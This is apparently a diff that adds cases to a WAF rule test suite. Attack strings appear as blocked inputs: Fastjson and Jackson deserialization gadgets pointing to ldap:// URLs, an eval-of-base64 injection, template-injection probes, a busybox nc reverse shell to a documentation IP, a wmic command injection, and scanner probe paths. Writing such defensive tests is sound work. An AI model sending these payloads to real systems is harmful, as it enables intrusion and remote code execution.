@@ -135,3 +135,76 @@ describe('WAF scanners: endpoints of mass-scanned exploits (SCAN-210)', () => {
     expectNotFlaggedBy(req, 'SCAN-210');
   });
 });
+
+describe('WAF deserialization: Fastjson and Jackson polymorphic types (JAVA-160)', () => {
+  it.each([
+    [
+      'a Fastjson @type gadget',
+      json({ user: '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"ldap://x"}' }),
+    ],
+    ['a Jackson typed pair', q('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://x/a"}]')],
+  ])('blocks %s at sensitivity 70', (_name, req) => {
+    expectBlocked(req, 'JAVA-160');
+  });
+
+  it('allows a JSON-LD @type', () => {
+    expectNotFlaggedBy(q('{"@type":"Person","name":"Ada"}'), 'JAVA-160');
+  });
+});
+
+describe('WAF code injection: eval of decoded text (NODE-180)', () => {
+  it('blocks eval(Buffer.from(…, base64)) at sensitivity 70', () => {
+    expectBlocked(form(`page=${encodeURIComponent("eval(Buffer.from('aWQ=','base64').toString())")}`), 'NODE-180');
+  });
+
+  it('allows decoding without eval', () => {
+    expectNotFlaggedBy(q("const s = Buffer.from(data, 'base64').toString()"), 'NODE-180');
+  });
+});
+
+describe('WAF template probes: Smarty and doT (SSTI-100)', () => {
+  it.each([
+    ['the Smarty version probe', q('{$smarty.version}')],
+    ['doT arithmetic', json({ id: '{{= 7*7}}' })],
+  ])('blocks %s at sensitivity 70', (_name, req) => {
+    expectBlocked(req, 'SSTI-100');
+  });
+
+  it('allows a doT template printing a field', () => {
+    expectNotFlaggedBy(q('{{= it.name }}'), 'SSTI-100');
+  });
+});
+
+describe('WAF command injection: BusyBox applets and WMIC verbs (RCE-212)', () => {
+  it.each([
+    ['busybox nc', q(';busybox nc 203.0.113.8 4444 -e sh')],
+    ['wmic process call create', form(`host=${encodeURIComponent('| wmic process call create "cmd /c calc"')}`)],
+  ])('blocks %s at sensitivity 70', (_name, req) => {
+    expectBlocked(req, 'RCE-212');
+  });
+
+  it('allows prose about BusyBox', () => {
+    expectNotFlaggedBy(
+      q('BusyBox combines tiny versions of many common UNIX utilities; wmic is deprecated'),
+      'RCE-212',
+    );
+  });
+});
+
+describe('WAF scanners: GraphQL introspection and info pages (SCAN-230, SCAN-210)', () => {
+  it('challenges or blocks an introspection query at sensitivity 70', () => {
+    expectDetected(get(`/graphql?query=${encodeURIComponent('{__schema{types{name}}}')}`), 'SCAN-230');
+  });
+
+  it('allows an ordinary GraphQL query', () => {
+    expectNotFlaggedBy(get(`/graphql?query=${encodeURIComponent('{user(id:1){name}}')}`), 'SCAN-230');
+  });
+
+  it.each([
+    ['a phpinfo page', get('/phpinfo.php')],
+    ['a docker-compose file', get('/docker-compose.yml')],
+    ["Jenkins' script console", get('/jenkins/script')],
+  ])('blocks a probe for %s at sensitivity 70', (_name, req) => {
+    expectBlocked(req, 'SCAN-210');
+  });
+});
